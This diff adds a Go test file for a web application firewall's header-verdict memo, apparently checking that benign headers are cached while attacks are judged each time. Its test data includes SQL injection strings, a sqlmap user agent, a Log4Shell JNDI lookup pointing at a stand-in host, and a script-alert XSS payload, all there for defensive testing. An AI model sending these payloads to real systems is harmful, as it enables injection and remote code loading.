@@ -1,0 +1,101 @@
+package detect
+
+import (
+	"fmt"
+	"reflect"
+	"sync"
+	"testing"
+
+	"github.com/lambdawaf/lambdawaf/agent/event"
+)
+
+func headerValue(name, text string) event.Value {
+	return event.Value{Part: event.PartHeader, Location: "header." + name, Key: name, Text: text}
+}
+
+// TestHeaderMemoRemembersOnlyBenignVerdicts: a repeated benign
+// User-Agent is answered from the memo; an attack is judged, and
+// reported, every time; a credential header is never remembered.
+func TestHeaderMemoRemembersOnlyBenignVerdicts(t *testing.T) {
+	const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+	tests := []struct {
+		name, header, text string
+		remembered         bool
+	}{
+		{"a browser's user agent", "user-agent", browser, true},
+		{"any case of the name", "User-Agent", browser, true},
+		{"an origin", "origin", "https://shop.example.com", true},
+		{"a client hint", "sec-ch-ua", `"Chromium";v="120", "Not A(Brand";v="24"`, true},
+		{"an attack in the user agent", "user-agent", "Mozilla/5.0' AND SLEEP(5)-- -", false},
+		{"a scanner's user agent", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", false},
+		{"a log4shell lookup in the referer", "referer", "${jndi:ldap://x.example/a}", false},
+		{"an api key", "x-api-key", "k-123456", false},
+		{"an authorization header", "authorization", "Bearer abc.def.ghi", false},
+		{"a custom header", "x-file", "report.pdf", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			e := New(Options{})
+			v := headerValue(tt.header, tt.text)
+			first := e.Inspect(v, nil)
+			if got := e.memo.benign(&v); got != tt.remembered {
+				t.Fatalf("remembered = %v, want %v (signals %v)", got, tt.remembered, first)
+			}
+			if again := e.Inspect(v, nil); !reflect.DeepEqual(first, again) {
+				t.Errorf("second judgement %v, first %v", again, first)
+			}
+		})
+	}
+}
+
+// TestHeaderMemoIsKeyedByLocationNameAndText: a remembered value answers
+// only for the same header, location and text.
+func TestHeaderMemoIsKeyedByLocationNameAndText(t *testing.T) {
+	e := New(Options{})
+	v := headerValue("user-agent", "curl-like/1.0")
+	e.Inspect(v, nil)
+	for _, other := range []event.Value{
+		headerValue("referer", v.Text),
+		headerValue("user-agent", v.Text+" "),
+		{Part: event.PartHeader, Location: "header.user-agent[1]", Key: "user-agent", Text: v.Text},
+		{Part: event.PartHeader, Location: "header.user-agent", Key: "user-agent", Text: v.Text, Decoded: []string{"url"}},
+	} {
+		if memoizable(&other) && e.memo.benign(&other) {
+			t.Errorf("%+v answered by the memo of %+v", other, v)
+		}
+	}
+}
+
+// TestHeaderMemoUnderConcurrentInvocations: many invocations judging a
+// mix of benign and hostile header values at once (as under Managed
+// Instances) get the verdicts of an engine without a memo. Run with -race.
+func TestHeaderMemoUnderConcurrentInvocations(t *testing.T) {
+	var values []event.Value
+	for i := range 40 {
+		values = append(values,
+			headerValue("user-agent", fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64) Firefox/%d.0", 100+i)),
+			headerValue("user-agent", fmt.Sprintf("Mozilla/5.0' OR %d=%d-- -", i, i)),
+			headerValue("referer", fmt.Sprintf("https://shop.example.com/p/%d", i)),
+			headerValue("referer", fmt.Sprintf("https://x.example/?q=<script>alert(%d)</script>", i)))
+	}
+	want := make([][]Signal, len(values))
+	for i, v := range values {
+		want[i] = judgeAll(New(Options{}), v)
+	}
+	e := New(Options{})
+	var wg sync.WaitGroup
+	for w := range 8 {
+		wg.Go(func() {
+			for round := range 20 {
+				for k := range values {
+					i := (k + w*7 + round) % len(values)
+					if got := e.Inspect(values[i], nil); !reflect.DeepEqual(got, want[i]) {
+						t.Errorf("%q: %v, want %v", values[i].Text, got, want[i])
+						return
+					}
+				}
+			}
+		})
+	}
+	wg.Wait()
+}
